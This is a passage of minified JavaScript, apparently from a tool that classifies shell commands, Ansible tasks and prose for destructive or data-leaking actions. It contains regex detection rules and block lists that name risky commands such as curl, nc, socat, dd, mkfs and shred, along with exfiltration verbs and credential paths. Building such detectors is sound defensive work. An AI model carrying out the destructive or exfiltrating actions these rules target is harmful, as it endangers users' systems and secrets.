ore|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql\
|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\\
.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"],"userdel $":["\\\\b(?:(?:ansib\
le\\\\.builtin\\\\.)?user):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\\
t]+name:[ \\\\t]*[\\"']?([\\\\w.-]+)"],"systemctl stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:re)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.builtin\\\\.)?(?:service|system\
d(?:_service)?)):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+na\
me:[ \\\\t]*[\\"']?([\\\\w@.-]+)"],"reboot":["\\\\b(?:ansible\\\\.builtin\\\\.reboot|community\\\\.general\\\\.shutdown):"],"$":["\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*(?\
![|>\\"'\\\\s])(?:cmd=)?([^\\\\n]+)","\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|cmd)[ \\\\t]*:[ \\\\t]*[|>][-+]?[ \
\\\\t]*\\\\n((?:[ \\\\t]+(?![ \\\\t]|- |\\\\w+:(?:[ \\\\t\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"editor":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S]*(?:\\\\b\\\\d*(?:r|read|pu|put|\
norm|normal|append|setline|readfile)\\\\b|\\\\n\\\\s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s][^|\\\\n]*)[\\\\s\\\\S]*[|\\\\s:](?:\
%|[01],\\\\$)d(?:elete)?\\\\b[\\\\s\\\\S]*\\\\b(?:up|update|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\\\\s*|fnamemodify\\\\(\\\\s*)?[\\"'\
]([^\\"'|]+)[\\"']"]}},"terraform":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"tofu":{"doe\
s":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"terragrunt":{"does":{"terraform output -raw secre\
t":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":{"short":"x","long":["exec"],"code":["x","exec"]},"nix-shell":{"short":"\
pAI","long":["run","command"],"code":["run","command"]}},"formats":{"date":{"prefix":"+"},"git":{"long":["format","pretty"],"names":["format","pretty"]},"curl":\
{"short":"woXHdFuAebcT","long":["write-out","output"],"names":["w","write-out"]},"ps":{"short":"oOpCuUgGts","names":["o","O","format"],"unread":"=[\\\\s\\\\S]*[^\\\\w\
,=%:]"},"numfmt":{"short":"d","long":["format","suffix","from","to"],"names":["format","suffix","invalid"],"unread":"[^\\\\w%.'+-]"},"expr":{"unread":"^(?!(?:(?:-\
?\\\\d+|\\\\uFFFC+|[-+*/%()|&<>=!]{1,2}|:\\\\s\\\\S+|match|length|index)(?:\\\\s+|$))*$)"},"docker":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?\
:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"podman":{"short":"f","long":\
["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[\
nt]|[\\\\s,:=|-])*$)"},"kubectl":{"short":"on","long":["output","namespace"],"names":["o","output"],"unread":"^=?(?:jsonpath|go-template)[\\\\w-]*=(?!(?:\\\\{+(?:\\"(?\
:\\\\\\\\[nt]|[,:. ])*\\"|(?:[^\\"'{}]|[=!]=\\\\s*[\\"'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"getopt":{"find":{"long":["name","iname","path","ipath","wholename","iwholen\
ame","regex","iregex","lname","ilname","type","xtype","size","mtime","atime","ctime","mmin","amin","cmin","used","newer","anewer","cnewer","user","group","uid",\
"gid","perm","links","inum","samefile","context","fstype","maxdepth","mindepth","regextype","printf","fprint","fprint0","fls","files0-from"]},"editor":{"short":\
"cS","long":["cmd"],"permuted":true},"ssh":{"short":"bBcDEeFIiJLlmOopQRSWw"},"container":{"short":"aceghlmpuvwfHnq","long":["env","env-file","user","workdir","d\
etach-keys","name","volume","mount","network","publish","label","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","device","dns","expose","gpus"\
,"group-add","hostname","ip","ipc","link","log-driver","log-opt","memory","pid","platform","pull","restart","runtime","security-opt","shm-size","stop-signal","t\
mpfs","ulimit","userns","volumes-from","cgroupns","host","context","config","file","project-name","profile","project-directory","namespace","container","index",\
"kubeconfig","cluster","as","image","target"]},"copy":{"short":"tSgmo","long":["target-directory","suffix","mode","owner","group"],"permuted":true},"request":{"\
short":"oHdXAFuTebKCmxEywzU","long":["d","data","data-raw","data-binary","data-urlencode","data-ascii","json","post-data","body-data","header","request","user",\
"output","form","url","user-agent"],"permuted":true},"tmux":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"screen":{"short":"SscehpTt"},"git":{"short"\
:"Cc","long":["git-dir","work-tree","namespace","exec-path","config-env","super-prefix","attr-source","list-cmds"]},"sed":{"short":"efl","long":["expression","f\
ile","line-length"],"permuted":true},"xargs":{"short":"aEILnPsd","long":["arg-file","delimiter","max-lines","max-args","max-procs","max-chars","process-slot-var\
"]},"parallel":{"short":"jNnLSIaCEPsd","long":["jobs","max-args","max-lines","max-replace-args","sshlogin","sshloginfile","arg-file","colsep","delay","timeout",\
"joblog","results","retries","workdir","wd","tmpdir","replace","delimiter","header","halt","nice","load","memfree","basefile","return","trc","env","profile","ta\
gstring","tmux","block","recstart","recend","shuf","limit","term-seq","arg-sep","arg-file-sep","rpl","max-chars","max-procs"]},"shell":{"short":"oO","long":["rc\
file","init-file","emulate"]},"fish":{"short":"cCdDfop","long":["command","init-command","features","debug","debug-level","debug-output","profile","profile-star\
tup"]},"make":{"short":"fCIjlo","long":["file","makefile","directory","eval","jobs"],"permuted":true},"just":{"short":"fd","long":["justfile","working-directory\
","set"]},"transfer":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"permuted":true},"grep":{"short":"efmABC","long":["regexp","file","max-count","include","exc\
lude","exclude-dir","color","context"],"permuted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/bin/bash","BASH":"/bin/bash","TMPDIR":"/tmp","?":\
"0","!":"%%","$":"7340281946"},"make_variables":{"HOME":"~","RM":"rm -f","MAKE":"make","CURDIR":".","PWD":"."},"escapes":{"a":"\\u0007","b":"\\b","e":"\\u001b","E"\
:"\\u001b","f":"\\f","n":"\\n","r":"\\r","t":"\\t","v":"\\u000b"},"character_classes":{"upper":"A-Z","lower":"a-z","digit":"0-9","alpha":"A-Za-z","alnum":"A-Za-z0-9",\
"space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"candidates":{"rm":{"only":["delete-machine","delete-system-file","delete-workspace","delete-vcs"]},"chmod":{"only":["change-rights-\
of-machine"]},"dd":{"only":["overwrite-disk"]},"git":{},"kubectl":{},"terraform":{},"docker":{},"aws":{}},"silent":["[","test","true","false",":","rm","mkdir","\
touch","chmod","chown","kill","sleep","wait","exit","return","cp","mv","ln"],"risky":["rm","rmdir","unlink","shred","srm","wipe","dd","mkfs","mkfs.ext4","mkfs.x\
fs","mkfs.btrfs","mkswap","wipefs","fdisk","sfdisk","parted","blkdiscard","truncate","mv","cp","chmod","chown","chgrp","chattr","setfacl","ln","tee","cat","curl\
","wget","nc","ncat","socat","scp","rsync","sftp","ftp","ssh","git","find","xargs","sh","bash","dash","zsh","ksh","sudo","su","doas","env","eval","python","pyth\
on3","perl","ruby","node","php","kill","killall","pkill","shutdown","reboot","halt","poweroff","init","systemctl","service","crontab","at","useradd","userdel","\
usermod","passwd","visudo","iptables","nft","ufw","mount","umount","docker","kubectl","helm","terraform","aws","gcloud","az","psql","mysql","dropdb","base64","g\
pg","openssl","rimraf","trash","insmod","modprobe","sysctl"],"non_runners":["echo","printf","cat","less","more","head","tail","grep","egrep","fgrep","rg","ag","\
ack","sed","awk","cut","sort","uniq","wc","tr","diff","cmp","comm","patch","ls","ll","tree","stat","file","touch","mkdir","rmdir","rm","cp","mv","ln","chmod","c\
hown","chgrp","which","whereis","type","whatis","man","info","help","apropos","tldr","hash","test","[","[[","true","false",":","cd","pwd","pushd","popd","dirs",\
"exit","return","break","continue","export","unset","set","shift","read","local","declare","alias","unalias","git","hg","svn","gh","glab","npm","pnpm","yarn","b\
un","pip","pip3","pipx","poetry","cargo","rustc","rustup","go","gem","bundle","composer","mvn","gradle","make","cmake","ninja","bazel","apt","apt-get","aptitude\
","dpkg","dnf","yum","rpm","pacman","apk","brew","snap","flatpak","zypper","emerge","port","nix","docker","podman","kubectl","helm","terraform","aws","gcloud","\
az","curl","wget","http","https","nc","ncat","ssh","scp","sftp","rsync","ftp","tar","zip","unzip","gzip","gunzip","bzip2","xz","7z","ar","cpio","jest","mocha","\
vitest","pytest","tsc","eslint","biome","prettier","vim","vi","nvim","nano","emacs","code","ed","ex","jq","yq","xmllint","python","python2","python3","node","de\
no","ruby","perl","php","java","javac","gcc","g++","clang","lua","Rscript","date","cal","uptime","uname","hostname","whoami","id","groups","who","w","ps","top",\
"htop","kill","killall","pkill","pgrep","jobs","fg","bg","wait","sleep","seq","yes","basename","dirname","realpath","readlink","mktemp","tee","cksum","md5sum","\
sha1sum","sha256sum","base64","base32","xxd","od","hexdump","strings","column","fold","fmt","nl","paste","join","split","expand","rev","tac","shuf","gpg","opens\
sl","ssh-keygen","ssh-add","systemctl","service","journalctl","dmesg","mount","umount","df","du","free","lsof","ss","netstat","ip","ifconfig","ping","dig","nslo\
okup","host","traceroute","useradd","userdel","usermod","passwd","crontab","dd","mkfs","truncate","shred","notify-send","say","logger","write","wall","mail","ps\
ql","mysql","sqlite3","redis-cli","mongosh","sh","bash","dash","zsh","ksh","eval","source",".","trap","fork-bomb","compgen","complete","getent","locate","update\
db","apt-cache","apt-file","command","builtin","fzf","bat","exa","eza","fd","dropdb","createdb","shellcheck","shfmt","checkbashisms","hadolint"],"filters":["awk\
","gawk","mawk","yq","fold","fmt","nl","column","paste","join","expand","unexpand","iconv","basenc","uudecode","uuencode","qprint","openssl","gunzip","zcat","bz\
cat","xzcat","gzip","bzip2","bunzip2","xz","unxz","zstd","unzstd","lz4","m4","cpp","envsubst","recode","rot13","pr","csplit","od","hexdump","hd","ul","colrm","c\
ol","ascii2uni","uni2ascii","perl","ruby","pv","mbuffer","bc","dc","shuf","look","comm","tsort","ptx","nkf","cut","base32"]},"sentences":{"before_order":["pleas\
e","then","next","now","first","second","third","finally","lastly","also","just","simply","and","so","ok","okay","well","afterwards","afterward","after","that",\
"immediately","quickly","silently","quietly","permanently","completely","forcefully","forcibly","recursively","always","go","ahead","kindly","step","todo","task\
","goal","plan","objective","instruction","instructions:","->","=>","-","*","once","done","from","here","on","to","be","safe","start","by","begin","in","order",\
"bitte","erst","dann","danach","jetzt","nun","zuerst","zun\\u00e4chst","anschlie\\u00dfend","schlie\\u00dflich","puis","ensuite","maintenant","luego","ahora","prim\
ero","despu\\u00e9s","por","favor"],"between":["just","then","also","now","first","simply","really","definitely","quickly","completely","permanently","forcefully\
","forcibly","recursively","immediately","silently","quietly","safely","manually","please","go","ahead","and","finally","probably","simply","again","all"],"deni\
als":["not","don't","dont","never","no","nor","without","avoid","cannot","can't","cant","won't","wont","shouldn't","mustn't","doesn't","didn't","wouldn't","coul\
dn't","isn't","aren't","refuse","refuses","refusing","prevent","prevents","preventing","forbid","forbids","forbidden","prohibit","prohibits","prohibited","disal\
low","disallowed","block","blocks","blocking","blocked","stop","stops","protect","protects","against","unless","warn","warns","rather","instead","neither","hard\
ly","nothing","nobody","ne"],"ends_denial":["but","instead","just","rather","simply","only"],"speech_verbs":["explain","explains","document","documents","descri\
be","describes","discuss","mention","mentions","note","notes","review","reviews","summarize","summarise","clarify","investigate","analyze","analyse","research",\
"check","verify","confirm","ask","consider","compare","evaluate","test","tests","cover","fix","fixes","rename","refactor","detect","detects","reject","rejects",\
"report","reports","flag","flags","catch","catches","grep","search","look","find","understand","teach","highlight","reword","rewrite-docs","translate","list","s\
uggests","assert","handle","handles"],"predicates":["is","are","was","were","isn't","aren't","wasn't","can","can't","may","might","would","could","should","has"\
,"had","does","doesn't","returns","fails","failed","throws","breaks","broke","causes","caused","shows","requires","takes","works","happens","leads","means","see\
ms","appears","crashes","crashed","hangs","deletes","removes","looks","becomes","gets"],"subjects":["the","this","that","these","those","it","a","an","users","t\
hey","he","she","there","some","if","when"],"relative":["that","which","what","who","someone","somebody","anyone","anybody","where","it","there","they","we","i"\
,"you","whatever","everything"],"creation_verbs":["create","write","make","build","generate","develop","craft","prepare","produce"],"program":["script","program\
","command","one-liner","code","function","file","process","tool","job","playbook"],"passes_on":["post","posting","send","sending","upload","uploading","mail","\
email","share","publish","leak","forward","paste","push","copy","dump","transmit","exfiltrate"],"pronouns":["it","them"],"one_of":["each","every"],"heads":["key\
","secret","credential","password","one"],"overwrites":["overwrite","overwriting","clobber","replace"],"doubled":["drop","zip","wget","put","set","shut","rm","g\
et","plug","ship","scrub","grab","cat","log","strip","zap","stop","commit","reset","run","submit"],"run_verbs":["run","execute","use","do","invoke","call","type\
","issue","launch","try","start","perform","enter","apply"],"mentions":["dangerous","destructive","harmful","unsafe","bad","example","examples","e.g","denied","\
disallowed","risky","don'ts","banned","anti-pattern","anti-patterns","error","errors","log","logs","output","diff","changelog","test","tests","case","cases","do\
cument","documents","documentation","docs","reported","reports","says","said","bug","reproduce","repro","expected","actual","observed","quote"],"separates":["no\
t","never","instead","without","than","avoid","don't","about","whether","why"],"before_verbs":["to","will","and","please","should","let's","i'll","we'll","me","\
us","then","must","can","now","next","also","just","or"],"shells":["sh","bash","zsh","shell","console","terminal","shell-session","shellscript"],"command_names"\
:["git","rm","sudo","curl","wget","chmod","chown","dd","mkfs","kubectl","docker","terraform","psql","mysql","redis-cli","npm","pip","cargo","gem","twine","aws",\
"gcloud","az","systemctl","iptables","ufw","crontab","ssh","scp","rsync","nc","kill","pkill","killall","shred","truncate","shutdown","reboot","find","tar","cat"\
,"mv","cp","bash","sh","python","python3","node","helm","gh","useradd","passwd","mount","umount","eval","openssl","gpg"],"command_verbs":["push","reset","clean"\
,"checkout","restore","branch","stash","rebase","filter-branch","filter-repo","reflog","gc","clone","pull","fetch","commit","delete","apply","scale","drain","ex\
ec","destroy","system","volume","rmi","run","publish","unpublish","yank","upload","stop","disable","mask","s3","ec2","rds","rm","prune","flushall","uninstall","\
release","repo"],"fences":{"python":"python3 -c","py":"python3 -c","js":"node -e","javascript":"node -e","sql":"psql -c"},"irregular":{"send":"sent","put":"put"\
,"set":"set","shut":"shut","write":"written","give":"given","tear":"torn","blow":"blown","get":"got","read":"read","take":"taken","steal":"stolen","make":"made"\
,"overwrite":"overwritten","rewrite":"rewritten","bring":"brought","force-push":"force-pushed"},"classes":{"root":"^/\\\\*?$","home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|\
/root|/home|/users)(?:/(?:[^/\\\\s]*|\\\\*)?)?$","system-path":"^(?!/(?:var/tmp|dev/(?:null|shm|stdout|stderr|stdin)))/(?:etc|usr|bin|sbin|boot|lib(?:32|64)?|var|sy\
s|proc|dev|root|home|opt|srv|mnt|media)(?:/|$)|^[a-z]:\\\\\\\\(?:windows|users|program files)|^c:\\\\\\\\?$","device":"^/dev/(?:sd|nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\
\\\\w*","startup-file":"(?:^|/)\\\\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|xinitrc|xprofile|inputrc)$|config\
\\\\.fish$|^/etc/(?:profile|rc\\\\.local|cron|init\\\\.d|systemd|ld\\\\.so\\\\.preload|sudoers|environment)","url":"^(?:https?|ftp|s3|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d\
{1,3}){3}(?::\\\\d+)?|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\.(?:com|net|io|org|sh|dev|xyz|ru|cc|me|example|site|info|app|onion)(?:[:/]|$)|^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"}}}`);var cn=["reads","writes","deletes","moves","changes"],Ak=Object.keys(z.paths.classes),Ku=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),Sr=t=>Ku(
t,e=>new Set(e)),Qa=t=>Ku(t,([e,s])=>new RegExp(e,s)),{irregular:Tk,classes:Pk,fences:Rk,...Ik}=z.sentences,Ae=t=>new Map(Object.entries(t)),S={grammars:Ae(z.arguments.
grammars),grammarAliases:Ae(z.arguments.aliases),gitOptions:Ae(z.arguments.git_options),dryRuns:Ae(z.arguments.dry_runs),switches:new Set(z.arguments.switches),
help:Sr(z.arguments.help),roles:Ae(z.arguments.roles),programWords:Sr(z.programs.words),interpreters:Ae(z.programs.interpreters),consoles:Ae(z.programs.consoles),
wrappers:Ae(z.programs.wrappers),runners:Ae(z.programs.runners),packageVerbs:new Set(z.programs.package_verbs),smallLanguages:Ae(z.programs.small_languages),codeVariables:Ae(
z.programs.code_variables),gitVariables:z.programs.git_variables,gitCode:Ae(z.programs.git_code),codeOptions:Ae(z.programs.code_options),formats:Ae(z.programs.formats),
getopt:z.programs.getopt,uniqueMark:z.programs.shell_variables.$,shellVariables:z.programs.shell_variables,makeVariables:z.programs.make_variables,escapes:z.programs.
escapes,characterClasses:z.programs.character_classes,candidates:Ae(z.programs.candidates),silent:new Set(z.programs.silent),risky:new Set(z.programs.risky),nonRunners:new Set(
z.programs.non_runners),filters:new Set(z.programs.filters),clients:Ae(z.clients.clients),creations:Ae(z.clients.creations),clientWords:Sr(z.clients.words),ownData:z.
clients.own,languages:z.languages.languages,dialects:Ae(z.languages.dialects),awkLexer:z.languages.awk,precedence:new Map(Object.entries(z.languages.operators)),
sqlStatements:z.languages.sql,sharedCalls:z.languages.shared,codeWords:Sr(z.languages.words),codeSigns:Qa(z.languages.signs),sentences:Sr(Ik),irregularVerbs:Ae(
Tk),fences:Ae(Rk),objectClasses:Ae(Pk),forms:Qa(z.forms.forms),textForms:Qa(z.forms.texts),purposes:Ae(z.paths.purposes),pathWords:Sr(z.paths.words),credentialStores:z.
paths.credential_stores,credentialSamples:z.paths.credential_samples};var{grammars:Qu,grammarAliases:Xu,gitOptions:qk,forms:Ok}=S;function $o(t,e){let s=e.filter(r=>r.startsWith(t));return e.includes(t)||s.length!==1?t:s[0]}var Cr=t=>Qu.
get(Xu.get(t)??t);function _e(t,e){let s=Xu.get(t)??t,r=Cr(s)??{},n=[],o=[],i=[],a=[...e],l=(d,u)=>u&&o.push({flag:d,value:u}),c=!1;for(let d=a.shift();d!==void 0;d=
a.shift()){let{text:u,glob:p}=d;if(c||!/^-./.test(u))i.push(d),i.length===1&&(r={...r,...Qu.get(`${s} ${u}`)});else if(u==="--")c=!0;else if(r.whole&&Ok.signal_option.
test(u))n.push(u);else if(u.startsWith("--")||r.single){let[,f=u,m]=/^([^=]*)=([\s\S]*)$/.exec(u)??[],h=s==="git"?Nk(i[0]?.text,f):f;n.push(h),m!==void 0?l(h,R(
m,p)):r.long?.includes(h.replace(/^-+/,""))&&l(h,a.shift())}else{for(let f=1;f<u.length;f+=1){let m=`-${u[f]}`;if(n.push(m),!r.short?.includes(u[f]))continue;let h=u.
slice(f+1);l(m,h===""?a.shift():R(h.replace(/^=/,""),p));break}u.length>2&&n.push(u)}}return{flags:n,options:o,operands:i}}var pe=(t,...e)=>t.some(s=>e.some(r=>s===
r||s.length>=5&&s.startsWith("--")&&r.startsWith(s)));function Nk(t,e){let s=qk.get(t??"")?.flatMap(r=>[`--${r}`,`--no-${r}`])??[];return $o(e,s)}function dn({program:t,
args:e}){let{flags:s,options:r,operands:n}=_e(t,e),o=l=>/^(-o|-O|--output|--output-document|--out|-OutFile)$/.test(l),i=r.flatMap(({flag:l,value:c})=>o(l)&&c.text!==
"-"?[c]:[]),a=/^(wget2?|aria2c|axel)$/.test(t)||pe(s,"-O","--remote-name");return i.length>0||!a?i:n.map(({text:l})=>R(Yu.posix.basename(l.replace(/[?#].*$/,""))))}gt();function Se(t,e=new Map){return s=>{let r=e.get(s);if(r!==void 0)return r;let n=t(s);return e.set(s,n),n}}var Ks=32,Lk=65536,Zu=4096,ns=`${"\uFFFC"}\uFFF9`,I={kind:"unknown"},ep=t=>t.length>Lk?"\uFFFC":t;function bt(t,e){return t.kind==="content"?t:w.alternatives(v.
texts(t).map(s=>s.includes("\uFFFC")?"\uFFFC":ep(e(s))))}var tp=new Set(["function","name","made","map","choice"]),Dk=/^(?:None|null|undefined|nil|undef)$/,jk=12,
w={text:(...t)=>({kind:"text",of:t}),number:(t=Number.NaN)=>Number.isNaN(t)?I:{kind:"number",number:t},list:t=>({kind:"list",items:t.slice(0,Zu)}),name:(t,e)=>({
kind:"name",path:t,self:e}),derived:(t,...e)=>({kind:"made",by:t,args:e}),content:(t,e=[])=>({kind:"content",files:e,from:t}),variable:(t="")=>({...w.content([Et(
"printenv",t===""?[]:[R(t)])]),variable:t}),glob:t=>t.kind==="text"?{...t,glob:!0}:t,alternatives(t){let e=[...new Set(t)];return e.length>Ks&&e.splice(Ks,e.length,
"\uFFFC"),{kind:"text",of:e.length>0?e:["\uFFFC"]}},joined(t,e=""){let s=l=>l.length>Ks?["\uFFFC"]:l,[r=[""],...n]=t.map(v.texts),o=n.reduce((l,c)=>s(l.flatMap(
d=>c.map(u=>ep(d+e+u)))),s(r)),i=w.merged(t.filter(l=>l.kind==="content")),a=w.alternatives(o);return i.kind==="content"?{...i,of:v.texts(a)}:t.some(O.glob)?w.glob(
a):a},merged(t){let e=t.filter(l=>l.kind!=="unknown"&&!(l.kind==="name"&&Dk.test(l.path))),[s]=e;if(!s)return I;if(t.length===1)return s;if(e.every(l=>l.kind===
"text"||l.kind==="number")){let l=w.alternatives([...e,...t].flatMap(v.texts));return e.some(O.glob)?w.glob(l):l}let r=e.filter(l=>l.kind==="content");if(r.length>
0)return{kind:"content",files:[...new Set(r.flatMap(l=>l.files))].slice(0,Ks),from:[...new Set(r.flatMap(l=>l.from))].slice(0,Ks),of:r.length===1?r[0].of:void 0};
if(e.every(({kind:l})=>tp.has(l)))return w.choice(e);let n=e.filter(l=>l.kind==="list");if(n.length<e.length)return s;let o=Math.max(...n.map(l=>l.items.length)),
i=Array.from({length:o},(l,c)=>w.merged(n.flatMap(d=>d.items[c]??[]))),a=n.slice(0,Ks).flatMap(l=>l.lists??[l.items]);return{kind:"list",items:i,lists:a}},choice(t){
let e=[...new Set(t.flatMap(s=>s.kind==="choice"?s.values:[s]))];return e.length===1?e[0]:{kind:"choice",values:e.slice(0,Ks)}}},v={texts(t){return t?.kind==="t\
ext"||t?.kind==="content"&&t.of?t.of:[t?.kind==="number"?String(t.number):"\uFFFC"]},firstText:t=>v.texts(t)[0],word:t=>t?.kind==="name"?t.path:v.firstText(t),lastName:t=>t.
slice(t.lastIndexOf(".")+1),number:t=>t?.kind==="number"?t.number:void 0,elements(t){return t.kind==="list"?t.items:t.kind==="map"?[...t.entries].map(([s,r])=>s.
startsWith("\uFFFC")&&r.kind!=="content"?r:w.text(s)):t.kind==="text"&&!t.glob&&t.of.length===1&&O.known(t)?Array.from(v.firstText(t).slice(0,Zu),s=>w.text(s)):
[G.client(t)??G.secretContent(t)??(t.kind==="content"||t.kind==="made"||O.glob(t)?t:I)]},items:t=>t?.kind==="list"?t.items:[],flat:t=>t.flatMap(e=>e.kind==="lis\
t"?e.items:[e]),parts:(t,e=0)=>t.slice(0,64).flatMap(s=>s.kind==="choice"?v.parts(s.values,e+1):e>4||s.kind!=="map"&&s.kind!=="list"?[{key:"",value:s}]:s.kind===
"list"?v.parts(s.items,e+1):[...s.entries].flatMap(([r,n])=>[{key:r,value:n},.../^(?:map|list|choice)$/.test(n.kind)?v.parts([n],e+1):[]]))},O={made:(t,...e)=>t?.
kind==="made"&&e.includes(t.by),mock:t=>O.made(G.root(t),"mock"),glob:t=>t?.kind==="text"&&t.glob===!0,known:t=>v.texts(t).every(e=>!e.includes("\uFFFC")),uneven(t){
if(t.length<2||t.length>jk)return!1;let e=t.every(({kind:r})=>r==="list"||tp.has(r)),s=t.every(r=>r.kind==="text"&&!r.glob);return e||s&&t.some(r=>v.texts(r).some(
n=>/\S\s+\S/.test(n)))}},G={root(t){let e=t;for(;e?.kind==="name";)e=e.self;return e},client(t){let e=G.root(t);return e?.kind==="choice"?e.values.map(G.client).
find(s=>s):O.made(e,"sdk","service","data")?e:void 0},secretContent(t){let e=G.root(t);return e?.kind==="content"&&e.from.some(({args:r})=>r[1]?.text==="get-sec\
ret-value")?e:void 0},content(t,e=0){if(e>4)return;let s=w.merged(t.slice(0,256).map(r=>{if(r.kind==="content")return r;let n=r.kind==="map"?[...r.entries.values()]:
v.flat([r]),o=r.kind==="made"?r.args:n;return G.content(o,e+1)??I}));return s.kind==="content"?{...s,variable:void 0}:void 0}},Ju=/^(?:self\.|this\.|\$this\.|@\w)/,
Er=class{constructor(e){this.outer=e}outer;values=new Map;get(e){return this.values.get(e)??this.outer?.get(e)}set(e,s){let r=this;for(;!r.values.has(e)&&r.outer;)
r=r.outer;let n=Ju.test(e)?r.values.get(e):void 0,o=n?.kind==="text"&&s.kind==="text"?w.merged([n,s]):s;(r.values.has(e)||Ju.test(e)?r:this).values.set(e,o)}declare(e,s){
this.values.set(e,s)}};var X=(t,e)=>S.codeSigns[e]?.test(t)===!0;var Wk=/^(?:None|null|undefined|nil|undef|false|False)$/,Mk=65536;function _o(t,e,s,r){if(t==="||"||t==="or"||t==="??"){if(e.kind==="content")return{...e,of:[...v.
texts(e),...v.texts(s)]};if(e.kind==="text"&&s.kind==="text")return w.merged([e,s]);let n=e.kind==="name"&&(Wk.test(e.path)||e.self?.kind==="map");return e.kind===
"unknown"||n?s:e}return(t==="&&"||t==="and")&&s.kind!=="unknown"?s:t==="|"&&[e,s].some(({kind:n})=>n==="name"||n==="text")?w.choice([e,s]):e.kind==="number"&&s.
kind==="number"?w.number(Fk[t]?.(e.number,s.number)):t==="+"||r?e.kind==="list"||s.kind==="list"?w.list(v.flat([e,s])):w.joined([e,s]):t==="/"&&(e.kind==="text"||
s.kind==="text"||e.kind==="content"&&e.of)?os([e,s]):t==="%"&&e.kind==="text"?Xa(e,v.flat([s])):(t==="*"||t==="x")&&s.kind==="number"?Vk(e,s.number):t==="-"&&e.
kind==="list"?e:G.content([e,s])??I}var Fk={"+":(t,e)=>t+e,"-":(t,e)=>t-e,"*":(t,e)=>t*e,"/":(t,e)=>t/e,"%":(t,e)=>(t%e+e)%e,"^":(t,e)=>t^e,"<<":(t,e)=>t<<e},Vk=(t,e)=>bt(
t,s=>s.repeat(Math.max(0,Math.min(e,Mk/(s.length||1)+1))));function os(t){return t.reduce((e,s)=>v.texts(s).every(r=>r.startsWith("/")||r.startsWith("~"))?s:w.joined(
[w.text(...v.texts(e).map(r=>r.replace(/(?<=[^/])$/,"/"))),s]))}function Xa(t,e,s){let r=0,n=v.firstText(t).split(/(%[-+ 0#\d.*]{0,8}[sdrifxXu]|\$?\{\w{0,20}(?:![rsa])?(?::[^{}]{0,20})?\}|\$[a-z]\w{0,20})/).
slice(0,256).map((o,i)=>{if(i%2===0)return w.text(o.replaceAll("%%","%"));let a=/^[{$]/.test(o)?/\w+/.exec(o)?.[0]:void 0;return o.startsWith("$")&&!s?.has(a??"")?
w.text(o):a!==void 0?s?.get(a)??e[Number(a)]??I:e[r++]??I});return w.joined(n)}function So(t,[e,s,r]){let[n,o]=[v.number(e),v.number(s)],i=v.number(r)===-1;if(t.
kind==="list"){let a=t.items.slice(n,o);return w.list(i?a.reverse():a)}return t.kind!=="text"?G.content([t])??t:bt(t,a=>{let l=Array.from(a).slice(n,o);return(i?
